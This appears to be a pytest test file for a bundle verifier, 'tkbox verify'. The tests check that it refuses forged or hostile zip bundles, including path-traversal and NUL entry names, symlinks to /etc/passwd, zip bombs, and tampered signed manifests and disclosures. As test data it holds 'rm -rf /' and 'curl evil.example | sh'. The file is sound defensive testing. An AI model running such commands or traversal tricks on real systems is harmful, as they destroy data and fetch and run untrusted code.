"""Hostile bundles: each is refused by `tkbox verify` with a clear reason, exit 1 (or 2 for unreadable), no
traceback, and nothing written anywhere."""

from __future__ import annotations

import hashlib
import io
import json
import os
import time
import zipfile
from pathlib import Path

import pytest
from conftest import forged_bundle, record_run, run_cli

from tkbox_nb.bundle.archive import read_bundle_file, write_zip


@pytest.fixture(scope="module")
def good(signer, tmp_path_factory):
    return record_run(signer, tmp_path_factory.mktemp("good") / "good.tkb")


def entries(path: Path) -> dict[str, bytes]:
    return read_bundle_file(path)


def rewrite(files: dict[str, bytes], out: Path, fix_manifest: bool = True) -> Path:
    """Write `files` back as a canonical zip, the manifest recomputed unless told not to (a forger's best effort)."""
    if fix_manifest:
        return forged_bundle(dict(files), out)
    write_zip(out, files)
    return out


def raw_zip(out: Path, members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> Path:
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in members:
            z.writestr(info, data)
    return out


def patch_name(path: Path, placeholder: str, name: bytes) -> Path:
    """Replace an entry name in the local header and central directory (names zipfile will not write)."""
    data = path.read_bytes()
    assert len(placeholder.encode()) == len(name) and data.count(placeholder.encode()) == 2
    path.write_bytes(data.replace(placeholder.encode(), name))
    return path


def assert_refused(path: Path, code: int, reason: str, tmp_path: Path):
    cwd = tmp_path / "cwd"
    cwd.mkdir(exist_ok=True)
    before = set(os.listdir(path.parent)), set(os.listdir(cwd))
    r = run_cli("verify", str(path), cwd=cwd)
    assert r.returncode == code, (r.returncode, r.stdout, r.stderr)
    assert "Traceback" not in r.stdout + r.stderr
    line = r.stdout.strip().splitlines()[0]
    assert reason in line, line
    assert (set(os.listdir(path.parent)), set(os.listdir(cwd))) == before  # nothing written


def with_member(good: Path, out: Path, info, data=b"x") -> Path:
    files = entries(good)
    members = list(files.items()) + [(info, data)]
    return raw_zip(out, members)


def test_truncated_zip_is_unreadable(good, tmp_path):
    p = tmp_path / "t.tkb"
    p.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    assert_refused(p, 2, "not a readable zip", tmp_path)


def test_corrupt_zip_is_unreadable(good, tmp_path):
    data = bytearray(good.read_bytes())
    off = data.find(b"runs/") + 200  # inside a compressed member
    data[off:off + 8] = b"\xff" * 8
    p = tmp_path / "c.tkb"
    p.write_bytes(bytes(data))
    assert_refused(p, 2, "UNREADABLE", tmp_path)


def test_not_a_zip_is_unreadable(tmp_path):
    p = tmp_path / "n.tkb"
    p.write_text("hello")
    assert_refused(p, 2, "not a readable zip", tmp_path)


@pytest.mark.parametrize("name,reason", [
    ("box/../../evil", "'..' component"),
    ("/etc/evil", "absolute path"),
    ("box\\evil", "backslash"),
])
def test_unsafe_entry_names_are_refused(good, tmp_path, name, reason):
    assert_refused(with_member(good, tmp_path / "u.tkb", name), 2, reason, tmp_path)


def test_nul_in_entry_name_is_refused(good, tmp_path):
    p = with_member(good, tmp_path / "nul.tkb", "box/ZZZZ")
    assert_refused(patch_name(p, "box/ZZZZ", b"box/Z\x00ZZ"), 2, "NUL", tmp_path)


def test_duplicate_names_are_refused(good, tmp_path):
    assert_refused(with_member(good, tmp_path / "d.tkb", "box/manifest.json"), 2, "duplicate entry", tmp_path)


def test_case_duplicates_are_refused(good, tmp_path):
    assert_refused(with_member(good, tmp_path / "c.tkb", "box/MANIFEST.json"), 2, "differ only in case", tmp_path)


def test_unicode_normalization_duplicates_are_refused(good, tmp_path):
    files = list(entries(good).items())
    p = raw_zip(tmp_path / "nfc.tkb", files + [("box/caf\u00e9", b"1"), ("box/cafe\u0301", b"2")])
    assert_refused(p, 2, "differ only in case or normalization", tmp_path)


def test_symlink_entries_are_refused(good, tmp_path):
    info = zipfile.ZipInfo("box/link")
    info.external_attr = (0o120777 << 16)
    assert_refused(with_member(good, tmp_path / "s.tkb", info, b"/etc/passwd"), 2, "symlink", tmp_path)


def test_zip_bombs_are_refused(good, tmp_path):
    p = with_member(good, tmp_path / "bomb.tkb", "box/bomb", b"\0" * (60 << 20))
    assert p.stat().st_size < 1 << 20
    assert_refused(p, 2, "zip bomb", tmp_path)


def test_entry_that_lies_about_its_size_is_refused(good, tmp_path):
    p = with_member(good, tmp_path / "lie.tkb", "box/zzzz", b"a" * 1000)
    data = bytearray(p.read_bytes())
    cd = data.rfind(b"PK\x01\x02", 0, data.rfind(b"box/zzzz"))  # the central entry of box/zzzz
    cd = data.rfind(b"box/zzzz") - 46
    assert data[cd:cd + 4] == b"PK\x01\x02"
    data[cd + 24:cd + 28] = (10).to_bytes(4, "little")  # uncompressed size
    p.write_bytes(bytes(data))
    assert_refused(p, 2, "UNREADABLE", tmp_path)


def test_manifest_that_lies_is_invalid(good, tmp_path):
    files = entries(good)
    files["box/disclosures.jsonl"] += b"\n"
    assert_refused(rewrite(files, tmp_path / "m.tkb", fix_manifest=False), 1, "INVALID", tmp_path)


def test_altered_disclosed_content_is_invalid(good, tmp_path):
    files = entries(good)
    lines = files["box/content-0001.jsonl"].splitlines()
    item = json.loads(lines[0])
    import base64
    item["b64"] = base64.b64encode(b"print('something else')\n").decode()
    files["box/content-0001.jsonl"] = b"\n".join([json.dumps(item).encode(), *lines[1:]]) + b"\n"
    assert_refused(rewrite(files, tmp_path / "a.tkb"), 1, "INVALID: content", tmp_path)


def _edit_disclosures(good, fn):
    files = entries(good)
    ds = [json.loads(x) for x in files["box/disclosures.jsonl"].splitlines()]
    ds = fn(ds)
    files["box/disclosures.jsonl"] = b"".join(json.dumps(d, sort_keys=True).encode() + b"\n" for d in ds)
    return files


def test_salt_that_does_not_open_its_commitment_is_invalid(good, tmp_path):
    def bad_salt(ds):
        ds[1]["salt"] = "00" * 32
        return ds
    assert_refused(rewrite(_edit_disclosures(good, bad_salt), tmp_path / "s.tkb"), 1, "INVALID: commitment",
                   tmp_path)


def test_altered_disclosed_arguments_are_invalid(good, tmp_path):
    def other_argv(ds):
        for d in ds:
            if d.get("args", {}).get("kind") == "command":
                d["args"]["argv"] = ["rm", "-rf", "/"]
        return ds
    assert_refused(rewrite(_edit_disclosures(good, other_argv), tmp_path / "a.tkb"), 1, "INVALID: commitment",
                   tmp_path)


def test_withheld_disclosure_is_invalid(good, tmp_path):
    files = _edit_disclosures(good, lambda ds: [d for d in ds if d.get("args", {}).get("kind") != "command"])
    assert_refused(rewrite(files, tmp_path / "w.tkb"), 1, "INVALID: completeness", tmp_path)


def test_box_manifest_that_disagrees_with_the_records_is_invalid(good, tmp_path):
    files = entries(good)
    box = json.loads(files["box/manifest.json"])
    box["backend"], box["isolation"] = "firecracker", "micro-vm"
    files["box/manifest.json"] = json.dumps(box).encode()
    assert_refused(rewrite(files, tmp_path / "b.tkb"), 1, "INVALID: box manifest", tmp_path)


def test_box_manifest_end_reason_that_disagrees_with_the_signed_stop_is_invalid(good, tmp_path):
    """The manifest's end_reason is what a reader sees first; a forger may not rewrite why the box ended."""
    files = entries(good)
    box = json.loads(files["box/manifest.json"])
    box["end_reason"] = "box stopped normally, nothing to see"
    files["box/manifest.json"] = json.dumps(box).encode()
    assert_refused(rewrite(files, tmp_path / "e.tkb"), 1, "INVALID: box manifest: end_reason", tmp_path)


def _rerun_bundle(signer, out: Path) -> Path:
    """A run that names an original as a rerun does (RunRecorder's replay_of: rerun_of in its box.start)."""
    from tkbox_nb.policy import Policy
    from tkbox_nb.signing.recorder import RunRecorder
    rec = RunRecorder(signer, Policy.default(), {"backend": "none", "isolation": "none", "image_digest": "none"},
                      replay_of="a" * 32).open()
    rec.close("test done")
    return rec.write_bundle(out)


def test_a_rerun_s_original_is_signed_and_its_manifest_may_not_name_another(signer, good, tmp_path):
    """rerun_of is signed in box.start (since 0.2.0): a forger can neither make a run claim to rerun another nor
    change which run a rerun names."""
    from tkbox_nb.bundle.read_back import open_run
    from tkbox_nb.bundle.verify import verify_bundle
    rerun = _rerun_bundle(signer, tmp_path / "rerun.tkb")
    assert verify_bundle(rerun).valid
    start = next(c for c in open_run(rerun).crossings() if c.door == "box" and c.args.get("kind") == "start")
    assert start.args["rerun_of"] == "a" * 32 and open_run(rerun).box["rerun_of"] == "a" * 32
    for source, value, name in ((rerun, "b" * 32, "other.tkb"), (good, "a" * 32, "claims.tkb")):
        files = entries(source)
        box = json.loads(files["box/manifest.json"])
        box["rerun_of"] = value
        files["box/manifest.json"] = json.dumps(box).encode()
        assert_refused(rewrite(files, tmp_path / name), 1, "INVALID: box manifest: rerun_of disagree", tmp_path)


def test_a_rerun_from_before_rerun_of_was_signed_still_verifies(signer, tmp_path, monkeypatch):
    """A 0.1.0 bundle named its original in the manifest only; its signed box.start says which version made it."""
    import tkbox_nb.signing.recorder as recorder
    from tkbox_nb.bundle.box_checks import BOX_FIELDS
    from tkbox_nb.bundle.verify import verify_bundle
    monkeypatch.setattr(recorder, "BOX_FIELDS", tuple(f for f in BOX_FIELDS if f != "rerun_of"))
    monkeypatch.setattr(recorder, "__version__", "0.1.0")
    old = _rerun_bundle(signer, tmp_path / "old.tkb")
    assert verify_bundle(old).valid
    monkeypatch.setattr(recorder, "__version__", "0.2.0")  # the same bundle, had 0.2.0 made it, would not verify
    assert not verify_bundle(_rerun_bundle(signer, tmp_path / "new.tkb")).valid


def test_swapped_policy_source_is_invalid(good, tmp_path):
    files = entries(good)
    name = next(n for n in files if n.startswith("box/policies/"))
    files[name] = b'[exec]\ncells = false\n'
    assert_refused(rewrite(files, tmp_path / "p.tkb"), 1, "INVALID: policy", tmp_path)


def test_missing_bundle_and_bad_arguments_are_usage_errors(tmp_path):
    r = run_cli("verify", str(tmp_path / "nope.tkb"))
    assert r.returncode == 2 and "Traceback" not in r.stderr + r.stdout
    r = run_cli("verify")
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1
    r = run_cli("show", str(tmp_path / "nope.tkb"))
    assert r.returncode == 2 and r.stderr.startswith("tkbox show:") and "Traceback" not in r.stderr


def test_reader_refuses_without_writing(good, tmp_path):
    """read_entries is pure: it never touches the filesystem, whatever the zip says."""
    from tkbox_nb.bundle.archive import read_entries
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as z:
        z.writestr("../../../../tmp/tkbox-escape", b"x")
    with pytest.raises(Exception):
        read_entries(data.getvalue())
    assert not Path("/tmp/tkbox-escape").exists()


def test_a_bundle_no_verifier_could_read_is_never_written():
    from tkbox_nb.bundle.archive import MAX_ENTRY, check_limits
    from tkbox_nb.core.errors import BundleError
    check_limits({"runs/r.jsonl": b"x" * 1000, "box/disclosures.jsonl": b"y" * 1000}, "r")
    with pytest.raises(BundleError, match=r"runs/r.jsonl would be 64 MiB, over the 64 MiB a bundle entry may hold"):
        check_limits({"runs/r.jsonl": b"x" * (MAX_ENTRY + 1)}, "r")


def test_a_long_runs_disclosures_go_in_parts_that_both_verifiers_read(signer, tmp_path, monkeypatch):
    """Past one part's size the disclosures are split (a 100,000-crossing run's are about 100 MiB): the parts are
    read in order, and a missing or doubled part is refused."""
    import subprocess

    import tkbox_nb.bundle.archive as bundle_mod
    from conftest import VENV_BIN
    monkeypatch.setattr(bundle_mod, "DISCLOSURE_PART_BYTES", 3000)
    out = record_run(signer, tmp_path / "parts.tkb", cells=[f"print({i})\n" for i in range(12)])
    files = entries(out)
    parts = sorted(n for n in files if n.startswith("box/disclosures"))
    assert "box/disclosures.jsonl" not in files and len(parts) >= 3 and parts[0] == "box/disclosures-0001.jsonl"
    assert all(len(files[n]) <= 3000 for n in parts)
    r = run_cli("verify", str(out), "--trust", str(signer.trust_path))
    assert r.returncode == 0 and r.stdout.startswith("VALID"), r.stdout
    r = subprocess.run([str(VENV_BIN / "tracekit"), "verify", str(out), "--trust", str(signer.trust_path)],
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stdout + r.stderr
    gap = {n: b for n, b in files.items() if n != "box/disclosures-0002.jsonl"}
    assert_refused(rewrite(gap, tmp_path / "gap.tkb"), 2, "without a gap", tmp_path)
    both = dict(files, **{"box/disclosures.jsonl": files["box/disclosures-0001.jsonl"]})
    assert_refused(rewrite(both, tmp_path / "both.tkb"), 2, "one or the other", tmp_path)


def test_content_left_out_of_a_disclosure_s_index_is_still_checked_and_never_served(good, tmp_path):
    """The `content` index of a disclosure is not signed: a forger who drops an item from it and swaps the bytes
    must still fail (every item is checked against its own digest), and the run never hands out those bytes."""
    import base64
    files = entries(good)
    ds = [json.loads(x) for x in files["box/disclosures.jsonl"].splitlines()]
    target = next(v for d in ds for v in d["content"].values())
    for d in ds:
        d["content"] = {k: v for k, v in d["content"].items() if v != target}
    files["box/disclosures.jsonl"] = b"".join(json.dumps(d, sort_keys=True).encode() + b"\n" for d in ds)
    lines = [json.loads(x) for x in files["box/content-0001.jsonl"].splitlines()]
    for item in lines:
        if item["digest"] == target:
            item["b64"] = base64.b64encode(b"curl evil.example | sh\n").decode()
    files["box/content-0001.jsonl"] = b"".join(json.dumps(i).encode() + b"\n" for i in lines)
    forged = rewrite(files, tmp_path / "f.tkb")
    assert_refused(forged, 1, "INVALID: content", tmp_path)
    from tkbox_nb import open_run
    assert open_run(forged).content(target) is None


def test_content_a_record_commits_to_cannot_be_withheld_by_leaving_it_out_of_the_index(good, tmp_path):
    """What must be in the bundle is read from the signed statements (each `K` digest with `K_size` beside it), not
    from a disclosure's unsigned `content` index: a bundle with its cells' code and outputs left out is invalid."""
    files = entries(good)
    ds = [json.loads(x) for x in files["box/disclosures.jsonl"].splitlines()]
    gone = set()
    for d in ds:
        for key in ("code", "outputs"):
            if key in d["content"]:
                gone.add(d["content"].pop(key))
    assert gone
    files["box/disclosures.jsonl"] = b"".join(json.dumps(d, sort_keys=True).encode() + b"\n" for d in ds)
    kept = [x for x in files["box/content-0001.jsonl"].splitlines() if json.loads(x)["digest"] not in gone]
    files["box/content-0001.jsonl"] = b"".join(x + b"\n" for x in kept)
    assert_refused(rewrite(files, tmp_path / "w.tkb"), 1, "the record commits to is not in the bundle", tmp_path)
    files = entries(good)  # every content file gone, the box manifest still naming it
    files = {n: b for n, b in files.items() if not n.startswith("box/content-")}
    files["box/disclosures.jsonl"] = b"".join(
        json.dumps(dict(json.loads(x), content={}), sort_keys=True).encode() + b"\n"
        for x in entries(good)["box/disclosures.jsonl"].splitlines())
    assert_refused(rewrite(files, tmp_path / "n.tkb"), 1, "INVALID: box manifest: content_files", tmp_path)


def test_content_disclosed_by_no_record_or_twice_is_invalid(good, tmp_path):
    import base64
    files = entries(good)
    extra = b"nothing signed this"
    digest = "sha256:" + hashlib.sha256(extra).hexdigest()
    files["box/content-0001.jsonl"] += json.dumps({"digest": digest, "b64": base64.b64encode(extra).decode()}).encode()
    assert_refused(rewrite(files, tmp_path / "u.tkb"), 1, "INVALID: content", tmp_path)
    files = entries(good)
    first = files["box/content-0001.jsonl"].splitlines()[0]
    files["box/content-0001.jsonl"] += first + b"\n"
    assert_refused(rewrite(files, tmp_path / "d.tkb"), 1, "INVALID: box content", tmp_path)


def _edit_box(**fields):
    def fn(files):
        box = json.loads(files["box/manifest.json"])
        box.update(fields)
        files["box/manifest.json"] = json.dumps(box).encode()
    return fn


def _edit_record(fn_event):
    def fn(files):
        name = next(n for n in files if n.startswith("runs/"))
        lines = [json.loads(x) for x in files[name].splitlines()]
        fn_event([r["event"] for r in lines])
        files[name] = b"".join(json.dumps(r).encode() + b"\n" for r in lines)
    return fn


def _first_result(events):
    next(e for e in events if e["type"] == "tool.result")["data"] = ["x"]


@pytest.mark.parametrize("edit", [
    _edit_box(run_id=["x"]), _edit_box(policies=5), _edit_box(policies=[["x"]]), _edit_box(policy=None),
    _edit_box(policy={"hash": ["x"]}), _edit_box(end_reason=["x"]), _edit_box(backend={"a": 1}),
    _edit_record(lambda events: events[0].update(run_id=["x"])), _edit_record(_first_result),
    _edit_record(lambda events: events[1].update(type=["x"])), _edit_record(lambda events: events[2].update(
        run_seq=2 ** 70)),
], ids=["run_id", "policies int", "policies nested", "policy null", "policy hash list", "end_reason list",
        "backend object", "record run_id", "record data list", "record type list", "record run_seq huge"])
def test_a_malformed_manifest_or_record_is_invalid_never_a_crash(good, tmp_path, edit):
    files = entries(good)
    edit(files)
    forged = rewrite(files, tmp_path / "x.tkb")
    assert_refused(forged, 1, "INVALID", tmp_path)
    from tkbox_nb import open_run
    from tkbox_nb.bundle.verify import verify_bundle
    assert not verify_bundle(forged).valid and not open_run(forged).verify().valid
    shown = run_cli("show", str(forged))  # shown as unverified, never a crash
    assert "Traceback" not in shown.stderr and "internal error" not in shown.stderr, shown.stderr


def test_every_character_of_the_end_reason_shown_is_signed(signer, tmp_path):
    """The manifest's end_reason (up to 500 characters, what a reader and the run view show) is the signed box.stop
    reason whole: a forger may not rewrite its tail past the 200 characters older bundles signed."""
    from tkbox_nb.policy import Policy
    from tkbox_nb.signing.recorder import RunRecorder
    rec = RunRecorder(signer, Policy.default(), {"backend": "none", "isolation": "none", "image_digest": "none"}).open()
    reason = "the box's kernel ended: " + "x" * 300
    rec.close(reason)
    honest = rec.write_bundle(tmp_path / "r.tkb")
    from tkbox_nb.bundle.verify import verify_bundle
    assert verify_bundle(honest).valid
    files = entries(honest)
    box = json.loads(files["box/manifest.json"])
    assert box["end_reason"] == reason
    box["end_reason"] = reason[:200] + " -- ended cleanly, all checks passed"
    files["box/manifest.json"] = json.dumps(box).encode()
    assert_refused(rewrite(files, tmp_path / "e.tkb"), 1, "INVALID: box manifest: end_reason", tmp_path)


def test_a_signed_gap_is_named_in_the_verdict(signer, tmp_path, monkeypatch):
    """An event lost on a lane is a signed client_counter_gap (Tracekit warns of it): `tkbox verify` names it in its
    one-line verdict and its JSON, where Tracekit's own verifier shows it."""
    from tkbox_nb.policy import Policy
    from tkbox_nb.signing.recorder import RunRecorder
    from tkbox_nb.bundle.verify import verify_bundle
    rec = RunRecorder(signer, Policy.default(), {"backend": "none", "isolation": "none", "image_digest": "none"}).open()
    c = rec.decide("exec", "command", {"argv": ["true"]})
    rec.complete(c, "ok", {"exit_code": 0}, {"stdout": b"", "stderr": b""})
    tails = rec._lanes.tails
    monkeypatch.setattr(rec._lanes, "tails", lambda: [{**t, "client_seq": t["client_seq"] + 3} for t in tails()])
    rec.close("test done")
    gap = rec.write_bundle(tmp_path / "g.tkb")
    report = verify_bundle(gap)
    assert report.valid and report.warnings and "gap" in " ".join(report.warnings)
    r = run_cli("verify", str(gap))
    assert r.returncode == 0 and "WARNING" in r.stdout.splitlines()[0] and "gap" in r.stdout.splitlines()[0], r.stdout


@pytest.mark.parametrize("trust", [b"", b"[]", b'{"logs": 5}', b"PK\x03\x04\xe4"])
def test_a_bad_trust_config_is_unreadable_input_not_an_invalid_bundle(good, tmp_path, trust):
    """Exit 1 means the bundle was tampered with; a trust file that is not one is the caller's input (exit 2)."""
    path = tmp_path / "trust.json"
    path.write_bytes(trust)
    r = run_cli("verify", str(good), "--trust", str(path))
    assert r.returncode == 2 and r.stdout.startswith("UNREADABLE: trust:"), (r.returncode, r.stdout, r.stderr)
    assert "Traceback" not in r.stdout + r.stderr


def test_many_small_entries_that_expand_together_are_a_zip_bomb(good, tmp_path):
    """Entries under 1 MiB each escape the per-entry ratio; all together they may not expand past 200x the file
    (a 600 KB bundle of 480 one-MiB JSON lines once made the verifier hold 6 GB)."""
    line = b"[" + b"0.0," * ((1 << 20) // 4 - 1) + b"0.0]"
    files = entries(good)
    files.pop("box/disclosures.jsonl")
    members = list(files.items()) + [(f"box/disclosures-{i:04d}.jsonl", line[:(1 << 20) - 1] + b"\n")
                                     for i in range(1, 121)]
    p = raw_zip(tmp_path / "bomb.tkb", members)
    assert p.stat().st_size < 1 << 20
    assert_refused(p, 2, "zip bomb", tmp_path)


def test_a_disclosure_line_over_its_limit_is_refused_before_it_is_parsed(good, tmp_path):
    files = entries(good)
    files["box/disclosures.jsonl"] += b'{"pad": "' + os.urandom(5 << 19).hex().encode() + b'"}\n'  # not a bomb
    assert_refused(rewrite(files, tmp_path / "l.tkb"), 2, "over the 4 MiB limit", tmp_path)


def test_tkbox_run_refuses_an_output_or_workspace_it_cannot_use_before_the_command_runs(tmp_path):
    """Bad user input to `tkbox run` is one line and exit 2 before anything runs in a box (the command would
    otherwise run and its bundle be lost): an -o in no directory, a directory, a workspace holding a pipe."""
    (tmp_path / "dir").mkdir()
    (tmp_path / "ws").mkdir()
    os.mkfifo(tmp_path / "ws" / "pipe")
    probe = ["--", "true"]
    for args, said in ((["-o", str(tmp_path / "nowhere" / "x.tkb")], "is not a directory"),
                       (["-o", str(tmp_path / "dir")], "it is a directory"),
                       (["--workspace", str(tmp_path / "ws"), "-o", str(tmp_path / "w.tkb")], "not a file, directory")):
        r = run_cli("run", "--backend", "bwrap", *args, *probe)
        assert r.returncode == 2 and said in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
        assert "Traceback" not in r.stderr and not (tmp_path / "w.tkb").exists()


def test_tkbox_rerun_refuses_an_output_it_cannot_write_before_the_rerun_runs(signer, tmp_path):
    """`tkbox rerun -o` into no directory (or onto a directory) is one line and exit 2 before any box starts: the
    run's `sleep 30` never runs."""
    from conftest import record_run
    slow = record_run(signer, tmp_path / "slow.tkb", cells=(), commands=(["sleep", "30"],))
    (tmp_path / "dir").mkdir()
    for out, said in ((tmp_path / "nowhere" / "x.tkb", "is not a directory"), (tmp_path / "dir", "it is a directory")):
        started = time.monotonic()
        r = run_cli("rerun", str(slow), "-o", str(out), "--backend", "bwrap")
        assert r.returncode == 2 and said in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
        assert time.monotonic() - started < 20 and "Traceback" not in r.stderr


def test_what_a_command_verified_is_what_it_uses(good, tmp_path):
    """`tkbox apply`, `replay`, `rerun`, `audit` and the run view's Verify read a bundle once: a file swapped for a
    forged one after it was read is neither verified in its place nor used."""
    from conftest import tamper_content

    from tkbox_nb import open_run
    from tkbox_nb.cli.replay import _verified
    from tkbox_nb.bundle.verify import verify_bundle
    path = tmp_path / "b.tkb"
    path.write_bytes(good.read_bytes())
    run = _verified(str(path), None)
    digest = json.loads(entries(good)["box/content-0001.jsonl"].splitlines()[0])["digest"]  # the one tampered
    honest = run.content(digest)
    forged = tamper_content(good, tmp_path / "forged.tkb")
    path.write_bytes(forged.read_bytes())  # swapped after the check
    assert not verify_bundle(path).valid and open_run(path).content(digest) is None
    assert run.verify().valid and run.content(digest) == honest


def test_an_output_that_is_the_bundle_read_is_refused_and_the_bundle_kept(good, tmp_path):
    path = tmp_path / "b.tkb"
    path.write_bytes(good.read_bytes())
    for cmd in (["replay", str(path), "-o", str(path)], ["rerun", str(path), "-o", str(tmp_path / "." / "b.tkb")],
                ["audit", str(good), str(path), "--html", str(path)]):
        r = run_cli(*cmd)
        assert r.returncode == 2 and "it is the bundle" in r.stderr and "Traceback" not in r.stderr, r.stderr
        assert path.read_bytes() == good.read_bytes()
